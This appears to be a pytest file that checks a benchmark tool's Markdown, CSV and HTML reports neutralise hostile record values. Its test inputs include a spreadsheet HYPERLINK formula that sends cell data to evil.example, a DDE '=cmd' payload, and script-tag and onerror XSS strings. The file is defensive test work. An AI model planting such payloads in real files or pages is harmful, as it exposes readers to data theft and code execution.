"""What record values (labels, model paths, knobs, a server's error text) can put into the text
reports and CSVs, written so that nothing runs or breaks: a label that is not UTF-8 is refused, one
already in a record (a lone surrogate) is written escaped, never a traceback; a bare CR in a CSV cell
is quoted (one row per record for csv.reader and pandas); a cell a spreadsheet would run as a formula
starts with '; HTML in Markdown shows as text."""

import csv
import io
import json
import subprocess
import sys

import pandas as pd
import pytest

from salactl.bench.records import DETAIL_COLUMNS, write_details
from salactl.reports.atomic import write_all, write_atomic

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HTML = "a<script>alert(1)</script>&amp;"


def salactl(*args):
    return subprocess.run([sys.executable, "-m", "salactl", *args], capture_output=True, timeout=180)


def record(label, phase="S1", kind="bench", model="sala-nano", knobs=None):
    """A bench phase record as salactl/bench/records.py make_record writes it (json.dumps: a lone
    surrogate as its \\udcXX escape)."""
    return {"schema_version": 1, "kind": kind, "run_id": f"r-{phase}", "label": label, "profile": "decode",
            "phase": phase, "target": "embedded", "model": model, "timestamp": "2026-12-05T08:11:18+00:00",
            "completed": 12, "failed": 0, "mean_ttft_ms": 10.0,
            "knobs": {"max_concurrency": 1, "dtype": "bfloat16", **(knobs or {})},
            "env": {"gpu": "NVIDIA H200", "git_sha": "0123abc", "torch": "2.11.0"}}


def report(tmp_path, *records, formats="md,csv,html"):
    """`salactl report latency` of `records` into tmp_path/rep: the files by format."""
    path = tmp_path / "records.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    p = salactl("report", "latency", str(path), "--out", str(tmp_path / "rep"), "--format", formats)
    assert p.returncode == 0 and not p.stderr, p.stderr.decode(errors="replace")
    return {f: (tmp_path / "rep" / f"report.{f}").read_bytes() for f in formats.split(",")}


# ---------------------------------------------------------------- not UTF-8
@pytest.mark.parametrize("cmd", [["run", "-p", "x", "-n", "2", "--no-op-profile"],
                                 ["bench", "--model", "sala-nano", "--random-weights", "--device", "cpu"]])
def test_a_label_that_is_not_utf8_is_a_one_line_usage_error(tmp_path, cmd):
    p = salactl(*cmd, "--out", str(tmp_path / "runs"), "--label", b"caf\xe9")
    err = p.stderr.decode()
    assert p.returncode == 2 and err == "error: --label 'caf\\udce9' is not valid UTF-8; give the name in UTF-8\n"
    assert not (tmp_path / "runs").exists()


def test_a_lone_surrogate_already_in_a_record_is_written_escaped(tmp_path):
    """A record from before the refusal (or a model path from a file name that is not UTF-8)."""
    files = report(tmp_path, record("caf\udce9", model="/models/n\udcffno"))
    for data in files.values():
        text = data.decode("utf-8")                     # UTF-8 throughout
        assert "caf\\udce9" in text and "\\udcff" in text
    assert "Runs: caf\\udce9." in files["md"].decode()
    assert next(csv.DictReader(io.StringIO(files["csv"].decode())))["label"] == "caf\\udce9"


def test_valid_text_is_written_byte_for_byte(tmp_path):
    text = "# café € 😀 \\udce9\n|a|\n"
    write_atomic(tmp_path / "a.md", text)
    write_all({tmp_path / "b.csv": text})
    assert (tmp_path / "a.md").read_bytes() == (tmp_path / "b.csv").read_bytes() == text.encode("utf-8")


# ---------------------------------------------------------------- CSV
def test_report_csv_quotes_a_bare_cr_and_neutralises_formulas(tmp_path):
    files = report(tmp_path, record(FORMULA, knobs={"offset": -1, "note": "-x", "at": "@SUM(A1)"}),
                   record("b\rc", phase="S\r2", knobs={"offset": -2, "note": "+1", "at": "\tx"}), formats="csv")
    data = files["csv"]
    assert data.count(b"\n") == 3 and b"\r\n" not in data          # LF per record, as before
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    assert [(r["label"], r["phase"]) for r in rows] == [("'" + FORMULA, "S1"), ("b\rc", "S\r2")]
    assert [(r["knob.offset"], r["knob.note"], r["knob.at"]) for r in rows] == [
        ("-1", "'-x", "'@SUM(A1)"), ("-2", "'+1", "'\tx")]             # numbers stay numbers
    table = pd.read_csv(io.BytesIO(data))
    assert list(table["label"]) == ["'" + FORMULA, "b\rc"] and list(table["knob.offset"]) == [-1, -2]


def test_details_csv_quotes_a_bare_cr_and_neutralises_formulas(tmp_path):
    path = tmp_path / "r-requests.csv"
    rows = [["r1", "S\r1", 0, 8, 4, 4, 0, -0.5, "", "", "", "[]", "=cmd|' /C calc'!A0"],
            ["r1", "S1", 1, 8, 4, 4, 1, 0.25, 1.5, 0.25, 2.5, "[0.25]", "-ERR reset\r"]]
    write_details(path, rows)
    data = path.read_bytes()
    assert data.count(b"\n") == 3 and b"\r\n" not in data
    got = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert got[0] == list(DETAIL_COLUMNS)
    assert got[1] == ["r1", "S\r1", "0", "8", "4", "4", "0", "-0.5", "", "", "", "[]", "'=cmd|' /C calc'!A0"]
    assert got[2][-1] == "'-ERR reset\r" and pd.read_csv(io.BytesIO(data)).shape == (2, len(DETAIL_COLUMNS))


# ---------------------------------------------------------------- Markdown
def test_markdown_shows_html_from_records_as_text(tmp_path):
    md = report(tmp_path, record(HTML, model="/m/<b>x</b>", knobs={"tag": "<i>"}),
                record("b", phase="S2", knobs={"tag": "&"}),
                record("<img src=x onerror=alert(1)>", kind="sweep", phase="p"), formats="md")["md"].decode()
    assert "<" not in md and ">" not in md
    escaped = "a&lt;script&gt;alert(1)&lt;/script&gt;&amp;amp;"
    lines = md.splitlines()
    assert lines[2].startswith(f"Runs: {escaped}, ")
    assert "## sweep: &lt;img src=x onerror=alert(1)&gt;" in lines
    table_rows = [line for line in lines if line.startswith("|")]
    assert any(f"| {escaped} |" in r and "/m/&lt;b&gt;x&lt;/b&gt;" in r and "&lt;i&gt;" in r for r in table_rows)
    assert any("| &amp; |" in r for r in table_rows)


def test_a_pipe_in_a_markdown_cell_is_escaped():
    """A "|" in a label or value cannot split a Markdown table cell."""
    from salactl.reports.render_text import md_cell

    assert md_cell("a|b") == "a\\|b"


def test_the_bench_summary_shows_html_from_the_label_and_model_path_as_text(tmp_path):
    """bench's own <run_id>.md: the label and the model's path are user text."""
    from salactl.runtime.loader import EMBEDDED_DIR

    model = tmp_path / "m<i>"
    model.symlink_to(EMBEDDED_DIR, target_is_directory=True)
    p = salactl("bench", "--profile", "decode", "--phases", "decode-bs1", "--scale", "0.008", "--model", str(model),
                "--device", "cpu", "--label", HTML, "--out", str(tmp_path / "out"))
    assert p.returncode == 0, p.stderr.decode(errors="replace")
    (md,) = [f.read_text() for f in (tmp_path / "out").glob("*.md")]
    assert "<" not in md and ">" not in md, md
    assert "- label: a&lt;script&gt;alert(1)&lt;/script&gt;&amp;amp;" in md
    assert "m&lt;i&gt;" in md
